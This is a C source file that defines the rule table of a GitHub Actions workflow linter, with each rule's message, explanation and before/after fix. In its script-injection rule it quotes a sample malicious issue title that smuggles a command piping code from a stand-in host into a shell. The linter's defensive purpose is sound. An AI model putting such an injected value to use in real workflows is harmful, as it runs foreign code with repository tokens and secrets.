/* SPDX-License-Identifier: MIT */
/* lint_rules.c - the rules by name: what each says, why it matters, and how it is put right. */
#include "model/lint_walk.h"

static const struct lint_rule rules[] = {
	[LINT_ALWAYS_TRUE] = { "always-true", WF_DIAG_WARNING,
	    "text around ${{ }} makes a condition always true",
	    "Text around an expression makes a string of the whole value, and a string that is not "
	    "empty is true. A line break at the end of a block (`if: |`) is such text, too.",
	    "if: ${{ github.ref_name }} == 'main'", "if: github.ref_name == 'main'" },
	[LINT_CONSTANT_CONDITION] = { "constant-condition", WF_DIAG_WARNING,
	    "a condition has the same value in every run",
	    "A string is true when it is not empty, so that `a == 'x' || 'y'` is true whatever a "
	    "is: the comparison has to be written twice. A condition that is only `true` or "
	    "`false` "
	    "is not reported: it switches something on or off, and everybody can see it.",
	    "if: github.event_name == 'push' || 'schedule'",
	    "if: github.event_name == 'push' || github.event_name == 'schedule'" },
	[LINT_CRON_NEVER] = { "cron-never", WF_DIAG_WARNING, "a schedule that never fires",
	    "The day does not exist in any of the months that the schedule names.",
	    "- cron: '0 0 31 4 *'", "- cron: '0 0 30 4 *'" },
	[LINT_CRON_TOO_OFTEN] = { "cron-too-often", WF_DIAG_WARNING,
	    "a schedule asks for more than GitHub fires",
	    "GitHub fires a schedule at most every 5 minutes, and later when it has much to do.",
	    "- cron: '* * * * *'", "- cron: '*/5 * * * *'" },
	[LINT_DEFAULT_BRANCH_REF] = { "default-branch-ref", WF_DIAG_WARNING,
	    "the ref of a workflow_run is not that of the run before",
	    "In a run that workflow_run woke, github.ref_name and GITHUB_REF_NAME are the default "
	    "branch, whatever branch or tag the run before was for. A version that is taken from "
	    "them is `main`, and so is the tag of every image that is published with it. A "
	    "condition that asks for github.event_name or github.ref keeps the rule quiet.",
	    "on: { workflow_run: { workflows: [CI], types: [completed] } }\n"
	    "# ...\n"
	    "- run: docker push \"app:$GITHUB_REF_NAME\"",
	    "- run: docker push \"app:$VERSION\"\n"
	    "  env:\n"
	    "    VERSION: ${{ github.event.workflow_run.head_branch }}" },
	[LINT_DEPRECATED_COMMAND] = { "deprecated-command", WF_DIAG_WARNING,
	    "a script prints a command that files have replaced",
	    "GitHub warns of ::set-output and ::save-state in every run, and refuses ::set-env and "
	    "::add-path unless they are allowed: whatever a program prints could set them.",
	    "- run: echo \"::set-output name=version::1.2\"",
	    "- run: echo \"version=1.2\" >>\"$GITHUB_OUTPUT\"" },
	[LINT_FILTER_NEVER_MATCHES] = { "filter-never-matches", WF_DIAG_WARNING,
	    "a filter, or a pattern of it, matches nothing",
	    "Branches and tags are held against their short names; paths are relative to the "
	    "repository and name files, so that a folder needs `**` behind it. Patterns are no "
	    "regular expressions. A list needs a pattern that takes before one that takes out.",
	    "branches: ['!dependabot/**']\npaths: [./src/, /docs/**]",
	    "branches: ['**', '!dependabot/**']\npaths: [src/**, docs/**]" },
	[LINT_INVALID] = { LINT_INVALID_NAME, WF_DIAG_ERROR, "GitHub refuses the file",
	    "Not a warning but an error: GitHub does not run such a file. No comment silences it.",
	    NULL, NULL },
	[LINT_MISSING_INPUT] = { "missing-input", WF_DIAG_WARNING,
	    "a step does not give an input that its action requires",
	    "GitHub does not enforce `required` of an action's input: the action gets an empty "
	    "text, and fails later or not at all.",
	    "- uses: ./.github/actions/deploy",
	    "- uses: ./.github/actions/deploy\n  with: { stage: dev }" },
	[LINT_MISSING_WORKFLOW] = { "missing-workflow", WF_DIAG_WARNING,
	    "a job calls a file that is not there",
	    "The called file has to be in the commit that runs. Without it GitHub does not start "
	    "the run.",
	    "uses: ./.github/workflows/tset.yml", "uses: ./.github/workflows/test.yml" },
	[LINT_OTHER_SPELLING] = { LINT_OTHER_SPELLING_NAME, WF_DIAG_NOTE,
	    "$<< expr >> is an expression for wfrun only",
	    "wfrun reads $<< expr >> as ${{ expr }}, for files that pass through a template engine "
	    "that eats the braces. GitHub takes it as text. With --strict it is refused.",
	    "run: echo $<< github.sha >>", "run: echo ${{ github.sha }}" },
	[LINT_PENDING_CHECK] = { "pending-check", WF_DIAG_NOTE,
	    "a required check of a workflow with a filter of paths stays pending",
	    "A workflow that its filter of paths leaves out does not report anything. When one of "
	    "its jobs is a required check, the pull request waits for it and cannot be merged. A "
	    "job that is skipped by its `if:` counts as passed. The rule is quiet when another "
	    "workflow has the same name.",
	    "on: { pull_request: { paths: [src/**] } }",
	    "on: pull_request\n# a first job looks at the changed files, the others ask it:\n"
	    "if: needs.changes.outputs.src == 'true'" },
	[LINT_SCRIPT_INJECTION] = { "script-injection", WF_DIAG_WARNING,
	    "text that anybody can write becomes a part of a script",
	    "An expression is replaced before the shell or JavaScript reads the script. A title "
	    "such as `\"; curl evil.example | sh; \"` then is a part of the program, and has its "
	    "token and its secrets. A variable is not read as program text.",
	    "- run: echo \"${{ github.event.issue.title }}\"",
	    "- run: echo \"$TITLE\"\n  env:\n    TITLE: ${{ github.event.issue.title }}" },
	[LINT_UNDECLARED_INPUT] = { "undeclared-input", WF_DIAG_WARNING,
	    "an expression names an input that the file does not declare",
	    "What is not declared under `inputs:` of workflow_dispatch, workflow_call or the "
	    "action "
	    "is empty.",
	    "on: { workflow_dispatch: { inputs: { stage: } } }\n# ...\n"
	    "- run: deploy ${{ inputs.stagge }}",
	    "- run: deploy ${{ inputs.stage }}" },
	[LINT_UNKNOWN_INPUT] = { "unknown-input", WF_DIAG_WARNING,
	    "a step gives an input that its action does not have",
	    "GitHub warns in the run and goes on; the default of the input that was meant is used.",
	    "- uses: ./.github/actions/deploy\n  with: { stagge: dev }",
	    "- uses: ./.github/actions/deploy\n  with: { stage: dev }" },
	[LINT_UNKNOWN_JOB] = { "unknown-job", WF_DIAG_WARNING,
	    "an output of a called workflow names a job that is not there",
	    "What is taken from a job that does not exist is empty.",
	    "outputs: { version: { value: '${{ jobs.biuld.outputs.version }}' } }",
	    "outputs: { version: { value: '${{ jobs.build.outputs.version }}' } }" },
	[LINT_UNKNOWN_MATRIX_KEY] = { "unknown-matrix-key", WF_DIAG_WARNING,
	    "an expression names a key that no leg of the matrix has",
	    "Such a key is empty in every leg. A matrix that an expression makes is not judged.",
	    "strategy: { matrix: { os: [ubuntu-latest] } }\nruns-on: ${{ matrix.image }}",
	    "strategy: { matrix: { os: [ubuntu-latest] } }\nruns-on: ${{ matrix.os }}" },
	[LINT_UNKNOWN_NEED] = { "unknown-need", WF_DIAG_WARNING,
	    "an expression names a job that its own does not need",
	    "The needs context has the jobs under `needs:` only, not those that they need in turn.",
	    "needs: test\nif: needs.build.result == 'success'",
	    "needs: [build, test]\nif: needs.build.result == 'success'" },
	[LINT_UNKNOWN_OUTPUT] = { "unknown-output", WF_DIAG_WARNING,
	    "an expression names an output that nobody declares",
	    "Outputs of a job are those under its `outputs:`, or under those of the workflow that "
	    "it calls; outputs of a composite action are those of its action.yml. Any other is "
	    "empty. Outputs of scripts and of other actions are not judged.",
	    "build: { outputs: { tag: '${{ steps.t.outputs.tag }}' } }\n# ...\n"
	    "- run: push ${{ needs.build.outputs.version }}",
	    "- run: push ${{ needs.build.outputs.tag }}" },
	[LINT_UNKNOWN_PROPERTY] = { "unknown-property", WF_DIAG_WARNING,
	    "a job or a step has no such property",
	    "needs.x and jobs.x have `result` and `outputs`; steps.x has `outputs`, `outcome` and "
	    "`conclusion`.",
	    "if: steps.test.result == 'failure'", "if: steps.test.outcome == 'failure'" },
	[LINT_UNKNOWN_STEP] = { "unknown-step", WF_DIAG_WARNING,
	    "an expression names a step that is not before it in its job",
	    "The steps context has the steps of the same job that have an id and have run.",
	    "- run: echo \"v=1\" >>\"$GITHUB_OUTPUT\"\n- run: echo ${{ steps.version.outputs.v }}",
	    "- id: version\n  run: echo \"v=1\" >>\"$GITHUB_OUTPUT\"\n"
	    "- run: echo ${{ steps.version.outputs.v }}" },
	[LINT_UNKNOWN_VALUE] = { "unknown-value", WF_DIAG_WARNING,
	    "a type or filter that the event does not have",
	    "GitHub takes it in silence, and it never matches.",
	    "on: { pull_request: { types: [synchronized] } }",
	    "on: { pull_request: { types: [synchronize] } }" },
	[LINT_UNKNOWN_WORKFLOW] = { "unknown-workflow", WF_DIAG_WARNING,
	    "workflow_run names a workflow that is not there",
	    "The names are those of `name:` in the other files, or their paths where they have "
	    "none; upper and lower case differ.",
	    "on: { workflow_run: { workflows: [ci] } } # its name is CI",
	    "on: { workflow_run: { workflows: [CI] } }" },
	[LINT_UNREACHABLE_JOB] = { "unreachable-job", WF_DIAG_WARNING,
	    "a job needs one that is always skipped",
	    "A job is skipped with any job that it needs, unless its `if:` asks for the status by "
	    "always(), failure() or cancelled().",
	    "build: { if: false }\ntest: { needs: build }",
	    "build: { if: false }\ntest: { needs: build, if: '!cancelled()' }" },
	[LINT_UNUSED_IGNORE] = { "unused-ignore", WF_DIAG_NOTE, "a comment silences nothing",
	    "The problem has gone, or the comment is neither on its line nor on the one above. It "
	    "would hide the next problem of the kind.",
	    NULL, NULL },
};

const struct lint_rule *
lint_rules(size_t *n)
{
	*n = WF_COUNT(rules);
	return rules;
}

const struct lint_rule *
lint_rule(struct wf_str name)
{
	for (size_t i = 0; i < WF_COUNT(rules); i++)
		if (wf_str_is(name, rules[i].name))
			return &rules[i];
	return NULL;
}
